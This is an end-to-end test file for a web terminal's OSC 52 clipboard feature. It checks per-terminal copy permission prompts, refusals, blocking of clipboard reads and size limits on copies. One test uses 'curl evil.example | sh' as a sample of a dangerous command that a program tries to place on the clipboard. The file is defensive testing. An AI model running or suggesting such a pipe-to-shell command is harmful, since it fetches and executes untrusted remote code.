// Copying by programs (OSC 52).

import type { BrowserContextOptions, Page } from "playwright-core";
import { beforeEach, expect, test } from "vitest";
import type { TestSession } from "../../client/test/test-session";
import { goTo, PHONE, screenshot } from "./browser";
import { usePages } from "./pages-fixture";

const fixture = usePages();
let session: TestSession;

beforeEach(() => {
  session = fixture.server.createSession({ title: "agent" });
});

/** Opens the session on a page with a known text in its clipboard. */
async function open(options: BrowserContextOptions = {}): Promise<Page> {
  // The only test file that uses the clipboard, which all pages of the browser share.
  const permissions = ["clipboard-read", "clipboard-write"];
  await fixture.reopenContext({ permissions, ...options });
  const page = await fixture.logIn();
  await show(page, session);
  await page.evaluate(() => navigator.clipboard.writeText("mine"));
  return page;
}

async function show(page: Page, { info }: TestSession): Promise<void> {
  await goTo(page, `#/s/${info.id}`);
  await page.locator(".xterm-screen").waitFor();
  // Only the focused page copies.
  await page.bringToFront();
}

const copy = (text: string, into = session) =>
  fixture.server.print(into, `\x1b]52;c;${Buffer.from(text).toString("base64")}\x07`);
const clipboard = (page: Page) => page.evaluate(() => navigator.clipboard.readText());
const question = (page: Page) => page.getByRole("alertdialog");

test("copying needs one permission per terminal", async () => {
  const page = await open();
  copy("curl evil.example | sh\n");
  await question(page).getByText("curl evil.example | sh⏎").waitFor();
  await screenshot(page, "copy-question-dark");
  expect(await clipboard(page)).toBe("mine");
  copy("something else");
  await page.getByRole("button", { name: "Allow copying" }).click();
  await expect.poll(() => clipboard(page)).toBe("curl evil.example | sh\n");
  await page.getByText("Copied to your clipboard:").waitFor();

  copy("the next one");
  await expect.poll(() => clipboard(page)).toBe("the next one");
  await page.locator(".copy-preview").getByText("the next one").waitFor();
  await screenshot(page, "copied-dark");
  expect(await question(page).count()).toBe(0);

  const other = fixture.server.createSession({ title: "other" });
  await show(page, other);
  copy("from another terminal", other);
  await question(page).getByText("from another terminal").waitFor();
  expect(await clipboard(page)).toBe("the next one");
});

test("a refusal lasts for the terminal", async () => {
  const page = await open();
  copy("one");
  await page.getByRole("button", { name: "Don’t allow" }).click();
  copy("two");
  fixture.server.print(session, "\r\ndone");

  await expect
    .poll(() => page.evaluate(() => globalThis.rejoin.terminal?.buffer.active.cursorX))
    .toBe(4);
  expect(await question(page).count()).toBe(0);
  expect(await clipboard(page)).toBe("mine");
});

test("programs cannot read the clipboard", async () => {
  const page = await open();
  copy("one");
  await page.getByRole("button", { name: "Allow copying" }).click();
  fixture.server.print(session, "\x1b]52;c;?\x07\x1b]52;;?\x1b\\\r\ndone");

  await expect
    .poll(() => page.evaluate(() => globalThis.rejoin.terminal?.buffer.active.cursorX))
    .toBe(4);
  expect(session.input).toBe("");
});

test("large copies are refused and previews are short", async () => {
  const page = await open(PHONE);
  copy("word ".repeat(2_000));
  await question(page).getByText("(10000 characters)").waitFor();

  expect((await page.locator(".copy-preview").textContent())?.length).toBeLessThan(200);

  await screenshot(page, "copy-question-phone-dark");
  await page.getByRole("button", { name: "Allow copying" }).click();
  await expect.poll(async () => (await clipboard(page)).length).toBe(10_000);

  copy("x".repeat(1024 * 1024 + 3));
  await page.getByText("Nothing was copied.").waitFor();
  expect((await clipboard(page)).length).toBe(10_000);
});
